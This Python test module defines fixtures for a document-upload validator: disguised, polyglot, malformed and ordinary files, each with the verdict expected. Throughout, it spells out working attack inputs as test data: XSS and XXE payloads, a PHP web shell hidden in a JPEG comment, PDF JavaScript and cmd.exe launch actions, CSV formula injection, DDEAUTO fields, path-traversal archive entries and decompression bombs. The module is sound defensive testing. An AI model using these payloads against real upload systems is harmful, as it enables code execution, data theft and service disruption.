"""Hostile, odd and good files, each with what must become of it: the reason it is refused, or the type it is handed out as."""
import struct
import zipfile
from functools import cache

from tests.documents import files
from tests.documents.files import office, opendocument, package, packed_object, pdf, picture, relation, word

MB = 1024 * 1024
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject/></svg>'
XML = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'
MHT = b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 200 + b"This program cannot be run in DOS mode."
# The agreed harmless sign that virus scanners look for, in two halves so that none stops at this file.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 100
DDE_CODE = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText>{}</w:instrText></w:r><w:r><w:instrText>{}</w:instrText></w:r>')
FETCHED = '<draw:image x:href="{}"/>'


@cache
def cases():
    """(what it is, file name, content, outcome). An outcome with a slash is a content type; any other is the reason of a refusal."""
    kinds = [disguised, polyglots, pdfs, pictures, texts, packages, macros_and_links, opendocuments, good]
    return [case for kind in kinds for case in kind()]


def disguised():
    yield "HTML as PDF", "agenda.pdf", HTML, "disguised"
    yield "HTML as JPEG", "photo.jpg", HTML, "disguised"
    yield "HTML as Word", "letter.docx", HTML, "disguised"
    yield "SVG as JPEG", "photo.jpg", SVG, "disguised"
    yield "SVG as PNG", "plan.png", SVG, "disguised"
    yield "XML that reads a file, as PDF", "agenda.pdf", XML, "disguised"
    yield "MHT as Word", "letter.docx", MHT, "disguised"
    yield "program as JPEG", "photo.jpg", EXE, "disguised"
    yield "program as PDF", "agenda.pdf", EXE, "disguised"
    yield "program as Word", "letter.docx", EXE, "disguised"
    yield "program as text", "notes.txt", EXE, "disguised"
    yield "program", "setup.exe", EXE, "kind"
    yield "program with two endings", "agenda.pdf.exe", EXE, "kind"
    yield "program behind a bidi override", "agenda\u202efdp.exe", EXE, "kind"
    yield "web page", "page.html", HTML, "kind"
    yield "SVG", "plan.svg", SVG, "kind"
    yield "PDF as HTML", "agenda.html", pdf(), "kind"
    yield "PDF as text", "agenda.txt", pdf(), "disguised"
    yield "PDF without an ending", "agenda", pdf(), "kind"
    yield "PNG as JPEG", "photo.jpg", picture("PNG"), "disguised"
    yield "GIF", "photo.gif", picture("GIF"), "kind"
    yield "GIF as PNG", "photo.png", picture("GIF"), "disguised"
    yield "ZIP as PDF", "agenda.pdf", package([("a.txt", "a")]), "disguised"
    yield "ZIP as JPEG", "photo.jpg", package([("a.txt", "a")]), "disguised"
    yield "ZIP as Word", "letter.docx", package([("a.txt", "a")]), "disguised"
    yield "ZIP", "papers.zip", package([("a.txt", "a")]), "kind"
    yield "Excel as Word", "letter.docx", office("xlsx"), "disguised"
    yield "OpenDocument as Word", "letter.docx", opendocument("odt"), "disguised"
    yield "Word as OpenDocument", "letter.odt", office("docx"), "disguised"
    yield "iPhone photo", "IMG_0001.HEIC", HEIC, "heic"
    yield "iPhone photo as JPEG", "IMG_0001.jpg", HEIC, "heic"
    yield "old Word", "letter.doc", OLE, "old_office"
    yield "old Word as new Word", "letter.docx", OLE, "old_office"
    yield "Word with a password", "letter.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "locked"
    yield "sign for virus scanners as program", "eicar.com", EICAR, "kind"


def polyglots():
    gif_script = b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"
    zipped = package([("a.txt", "a")])
    yield "GIF and script as JPEG", "photo.jpg", gif_script, "disguised"
    yield "GIF and script as text", "photo.txt", b"GIF89a/*  */=1;alert(1)", "disguised"
    yield "JPEG with a ZIP behind it", "photo.jpg", picture("JPEG") + zipped, "active"
    yield "PDF with a ZIP behind it", "agenda.pdf", pdf() + zipped + b"\n%%EOF", "active"
    yield "PNG with a ZIP behind it", "plan.png", picture("PNG") + zipped, "active"
    yield "PNG with a page behind it", "plan.png", picture("PNG") + HTML, "damaged"
    yield "PNG with a second end behind it", "plan.png", picture("PNG") + HTML + files.chunk(b"IEND", b""), "damaged"
    yield "WebP with a page behind it", "photo.webp", picture("WEBP") + HTML, "damaged"
    yield ("JPEG with a script in its comment", "photo.jpg",
           picture("JPEG", comment=b"<?php system($_GET[1]); __HALT_COMPILER(); ?>"), "image/jpeg")
    yield "JPEG with camera data behind it", "photo.jpg", picture("JPEG") + b"SEFH camera data", "image/jpeg"
    yield "page before a PDF", "agenda.pdf", HTML + pdf(), "disguised"
    yield "page before a Word file", "letter.docx", HTML + office("docx"), "disguised"
    yield "Word file with a page behind it", "letter.docx", office("docx") + HTML, "damaged"


def pdfs():
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield "PDF with a script", "form.pdf", pdf(script), "active"
    yield "PDF with a script, its name escaped", "form.pdf", pdf(script.replace(b"/JavaScript", b"/J#61va#53cript")), "active"
    yield "PDF with a script among packed objects", "form.pdf", pdf(packed_object(script)), "active"
    yield "PDF with packed objects, their name escaped", "form.pdf", pdf(packed_object(script, b"/Obj#53tm")), "active"
    yield ("PDF with objects packed in a way that we cannot undo", "form.pdf",
           pdf(packed_object(script).replace(b"\nx", b"\n!x")), "active")
    yield "PDF that starts a program", "form.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "active"
    yield "PDF with a file in it", "form.pdf", pdf(b"<< /Type /EmbeddedFile >>"), "active"
    yield "PDF with a password", "form.pdf", pdf(b"<< /Encrypt 9 0 R >>"), "locked"
    yield "PDF that unpacks to 40 MB", "form.pdf", pdf(packed_object(b" " * 40 * MB)), "bomb"
    yield "PDF cut off", "agenda.pdf", pdf()[:-60], "damaged"
    yield "PDF of 5,000 pages", "agenda.pdf", pdf(*[b"<< /Type /Page /Parent 2 0 R >>"] * 5000), "application/pdf"
    yield "PDF with ordinary packed objects", "agenda.pdf", pdf(packed_object(b"<< /Type /Font >>")), "application/pdf"


def pictures():
    jpeg, png, webp = picture("JPEG"), picture("PNG"), picture("WEBP")
    large = bytearray(webp)
    large[26:30] = struct.pack("<HH", 16383, 16383)
    frame = jpeg.index(b"\xff\xc0")
    wide_jpeg = jpeg[:frame + 5] + struct.pack(">HH", 60000, 60000) + jpeg[frame + 9:]
    thumbnail = b"\xff\xd8\xff\xe1" + struct.pack(">H", 2 + 6 + len(jpeg)) + b"Exif\0\0" + jpeg
    yield "PNG of 20,000 by 20,000", "plan.png", files.wide_png(20_000, 20_000), "pixels"
    yield "PNG of 12,000 by 12,000, of which Pillow only warns", "plan.png", files.wide_png(12_000, 12_000), "pixels"
    yield "PNG of 6,000 by 6,000", "plan.png", files.wide_png(6_000, 6_000), "image/png"
    yield "JPEG of 60,000 by 60,000", "photo.jpg", wide_jpeg, "pixels"
    yield "WebP of 16,383 by 16,383", "photo.webp", bytes(large), "pixels"
    yield "JPEG cut off", "photo.jpg", jpeg[:-10], "damaged"
    yield "JPEG cut off, its thumbnail whole", "photo.jpg", thumbnail + jpeg[2:-10], "damaged"
    yield "JPEG of nothing but its first bytes", "photo.jpg", jpeg[:3], "damaged"
    yield "PNG cut off", "plan.png", png[:-20], "damaged"
    yield "PNG with a wrong checksum", "plan.png", png[:-20] + b"\0" + png[-19:], "damaged"
    yield "WebP cut off", "photo.webp", webp[:-10], "damaged"
    yield "WebP of nothing but its header", "photo.webp", webp[:12], "damaged"


def texts():
    yield "empty file", "notes.txt", b"", "empty"
    yield "empty PDF", "agenda.pdf", b"", "empty"
    yield "file of one byte too many", "notes.txt", b"a" * (10 * MB + 1), "too_big"
    yield "file of just the most", "notes.txt", b"a" * (10 * MB), "text/plain"
    yield "text with a NUL", "notes.txt", b"notes\0more", "disguised"
    yield "text with an escape sequence", "notes.txt", b"\x1b]0;title\x07", "disguised"
    yield "UTF-16 cut in half", "notes.txt", "notes".encode("utf-16")[:-1], "disguised"
    yield "UTF-16 with a NUL", "notes.txt", "notes\0".encode("utf-16"), "disguised"
    yield "web page as text, which nothing will show", "page.txt", HTML, "text/plain"
    yield "sign for virus scanners as text, as we have no scanner", "eicar.txt", EICAR, "text/plain"
    yield "CSV that starts a program", "budget.csv", b"name,sum\nx,=cmd|'/c calc'!A0\n", "active"
    yield "CSV that starts a program, quoted", "budget.csv", b'name,sum\nx,"=cmd|\'/c calc\'!A0"\n', "active"
    yield "CSV with an ordinary formula", "budget.csv", b"name,sum\nx,=A1+A2\n", "text/csv"


def packages():
    zeros = bytes(200 * MB)
    small = office("docx")
    yield "Word that unpacks to 200 MB", "letter.docx", office("docx", [("word/media/a.bmp", zeros)]), "bomb"
    yield "Word that unpacks to 20 MB of nothing", "letter.docx", office("docx", [("word/media/a.bmp", zeros[:20 * MB])]), "bomb"
    yield "Word with 40 MB to read", "letter.docx", office("docx", body=word("<w:t/>" * 7 * MB)), "bomb"
    yield "Word that says it unpacks to less", "letter.docx", files.lying_size(
        office("docx", [("word/media/a.bmp", zeros[:MB])]), "word/media/a.bmp", 1000), "damaged"
    yield ("Word that says it unpacks to more", "letter.docx",
           files.lying_size(office("docx", [("word/media/a.bmp", zeros[:MB])]), "word/media/a.bmp", 2 * MB), "damaged")
    yield ("Word with 65,000 parts", "letter.docx",
           package([(f"word/{n}.png", b"") for n in range(65_000)], compress=zipfile.ZIP_STORED), "bomb")
    yield "Word that climbs out of its folder", "letter.docx", office("docx", [("../../etc/cron.d/a", "a")]), "damaged"
    yield "Word with an absolute path", "letter.docx", office("docx", [("/etc/cron.d/a", "a")]), "damaged"
    yield "Word with a path of Windows", "letter.docx", office("docx", [("C:\\Windows\\a", "a")]), "damaged"
    yield "Word with a link to a file", "letter.docx", office("docx", [files.symlink("word/a.txt", "/etc/hostname")]), "damaged"
    yield "Word with one part twice", "letter.docx", office("docx", [("word/a.png", "a"), ("word/A.png", "b")]), "damaged"
    yield ("Word packed in a rare way", "letter.docx",
           package([("[Content_Types].xml", "<a/>")], compress=zipfile.ZIP_LZMA), "damaged")
    yield "Word with encrypted parts", "letter.docx", files.locked(small), "locked"
    yield "Word cut off", "letter.docx", small[:-30], "damaged"
    yield "Word with a wrong checksum", "letter.docx", package([("a.png", b"abcdef")], compress=zipfile.ZIP_STORED).replace(
        b"abcdef", b"abcdeg", 1), "damaged"
    yield "ZIP with a comment as Word", "letter.docx", package([("a", "a")], comment=b"hello"), "disguised"
    yield "Word with broken XML", "letter.docx", office("docx", body="<a><b></a>"), "damaged"
    yield ("Word with a billion laughs", "letter.docx",
           office("docx", body='<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'), "active")
    yield "Word with a program", "letter.docx", office("docx", [("word/media/a.png", EXE)]), "active"
    yield "Word with a script", "letter.docx", office("docx", [("word/media/a.js", "alert(1)")]), "active"
    yield "Word with a ZIP", "letter.docx", office("docx", [("word/media/a.png", package([("a", "a")]))]), "active"
    doll = office("xlsx")
    for _level in range(10):
        doll = office("xlsx", [("xl/embeddings/a.xlsx", doll)])
    yield "ten files inside one another", "budget.xlsx", doll, "active"
    bomb = office("xlsx", [("xl/media/a.bmp", zeros[:9 * MB])])
    yield ("many small bombs inside one file", "budget.xlsx",
           office("xlsx", [(f"xl/embeddings/{n}.xlsx", bomb) for n in range(20)]), "bomb")


def macros_and_links():
    vba = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    yield "Word with a macro", "letter.docx", office("docx", [("word/vbaProject.bin", b"\xcc\x61")], types=vba), "active"
    yield ("Word with a macro that its list leaves out", "letter.docx",
           office("docx", [("word/vbaProject.bin", b"\xcc\x61")]), "active")
    yield "Word with a macro under another name", "letter.docx", office("docx", [("word/a.bin", b"\xcc\x61")], types=vba.replace(
        "vbaProject.bin", "a.bin")), "active"
    yield "Word for macros as Word", "letter.docx", office(
        "docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"), "active"
    yield "Word for macros", "letter.docm", office("docx"), "kind"
    yield "Excel with a macro of 1992", "budget.xlsx", office("xlsx", [("xl/macrosheets/sheet1.xml", "<a/>")]), "active"
    yield "Excel with a macro in a file inside a file", "budget.pptx", office("pptx", [("ppt/embeddings/a.xlsx", office(
        "xlsx", [("xl/vbaProject.bin", b"\xcc\x61")]))]), "active"
    yield ("PowerPoint with a file for macros inside", "talk.pptx",
           office("pptx", [("ppt/embeddings/a.xlsm", office("xlsx"))]), "active")
    yield "Word with a control", "letter.docx", office("docx", [("word/activeX/activeX1.xml", "<a/>")]), "active"
    yield ("Word with an object of another program", "letter.docx",
           office("docx", [("word/embeddings/oleObject1.bin", OLE)]), "active")
    yield "Word that fetches its template", "letter.docx", office("docx", [
        ("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://elsewhere.example/a.dotm"))]), "linked"
    yield "Word that fetches a picture", "letter.docx", office("docx", [
        ("word/_rels/document.xml.rels", relation("image", "file://elsewhere.example/a.png"))]), "linked"
    yield "Word that fetches and does not say so", "letter.docx", office("docx", [
        ("word/_rels/document.xml.rels", relation("image", "https://elsewhere.example/a.png", mode="Internal"))]), "linked"
    yield "Excel linked to another sheet", "budget.xlsx", office("xlsx", types=(
        f'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="{files.OFFICE}spreadsheetml.externalLink+xml"/>')), "linked"
    yield "Word with a link to click", "letter.docx", office("docx", [
        ("word/_rels/document.xml.rels", relation("hyperlink", "https://www.gov.uk/"))]), files.OFFICE + "wordprocessingml.document"
    yield "Word with a field that starts a program", "letter.docx", office("docx", body=word(
        DDE_CODE.format("DDEAUTO", " c:\\\\windows\\\\system32\\\\cmd.exe"))), "active"
    yield ("Word with such a field, its name cut in two", "letter.docx",
           office("docx", body=word(DDE_CODE.format(" DDE", "AUTO cmd"))), "active")
    yield "Word with such a field, in UTF-16", "letter.docx", office("docx", body=word(DDE_CODE.format(" DDE", "AUTO cmd")).encode(
        "utf-16")), "damaged"
    yield "Word with such a field, behind an encoding of mainframes", "letter.docx", office("docx", body=(
        '<?xml version="1.0" encoding="IBM037"?>' + word(DDE_CODE.format(" DDE", "AUTO cmd")))), "damaged"
    yield "Word with a short such field", "letter.docx", office("docx", body=word('<w:fldSimple w:instr="DDE cmd"/>')), "active"
    yield "Word with an ordinary field", "letter.docx", office("docx", body=word(DDE_CODE.format(" PA", "GE"))), (
        files.OFFICE + "wordprocessingml.document")


def opendocuments():
    yield "OpenDocument with a macro", "letter.odt", opendocument("odt", [("Basic/Standard/Module1.xml", "<a/>")]), "active"
    yield "OpenDocument that acts when it is opened", "letter.odt", opendocument(
        "odt", body='<script:event-listener script:event-name="dom:load" x:href="vnd.sun.star.script:a"/>'), "active"
    yield ("OpenDocument with a password", "letter.odt",
           opendocument("odt", manifest='<m:file-entry><m:encryption-data/></m:file-entry>'), "locked")
    yield ("OpenDocument that fetches a picture", "letter.odt",
           opendocument("odt", body='<draw:image x:href="https://elsewhere.example/a.png"/>'), "linked")
    yield "OpenDocument that fetches from a share", "letter.odt", opendocument(
        "odt", body='<draw:image x:href="\\\\elsewhere.example\\a\\b.png"/>'), "linked"
    yield "OpenDocument that says it is another", "letter.odt", opendocument("odt", said="application/zip"), "disguised"
    yield "OpenDocument with a link to click", "letter.odt", opendocument(
        "odt", body='<text:a x:href="https://www.gov.uk/">a</text:a><draw:image x:href="Pictures/a.png"/>'), files.ODF_TYPES["odt"]


def good():
    yield "PDF", "agenda.pdf", pdf(), "application/pdf"
    yield "PDF with an ending in capitals", "AGENDA.PDF", pdf(), "application/pdf"
    yield "JPEG", "photo.jpg", picture("JPEG"), "image/jpeg"
    yield "JPEG, longer ending", "photo.jpeg", picture("JPEG", progressive=True), "image/jpeg"
    yield "PNG", "plan.png", picture("PNG"), "image/png"
    yield "WebP", "photo.webp", picture("WEBP"), "image/webp"
    yield "WebP without loss", "photo.webp", picture("WEBP", lossless=True), "image/webp"
    yield "WebP with facts about it", "photo.webp", picture("WEBP", exif=b"Exif\0\0II*\0\x08\0\0\0\0\0"), "image/webp"
    yield "text", "notes.txt", "Bins missed in Ffordd y Môr – again.\r\n".encode(), "text/plain"
    yield "text in UTF-16", "notes.txt", "Ffordd y Môr".encode("utf-16"), "text/plain"
    yield "text as Windows wrote it", "notes.txt", "Ffordd y Môr – £5".encode("cp1252"), "text/plain"
    yield "CSV", "bins.csv", b"street,missed\r\nMill Lane,3\r\n", "text/csv"
    yield "Word", "letter.docx", office("docx", body=word("<w:r/>")), files.OFFICE + "wordprocessingml.document"
    yield "Excel", "budget.xlsx", office("xlsx"), files.OFFICE + "spreadsheetml.sheet"
    yield "PowerPoint with a chart", "talk.pptx", office("pptx", [("ppt/embeddings/a.xlsx", office("xlsx"))]), (
        files.OFFICE + "presentationml.presentation")
    for kind, content_type in files.ODF_TYPES.items():
        yield kind, f"paper.{kind}", opendocument(kind), content_type
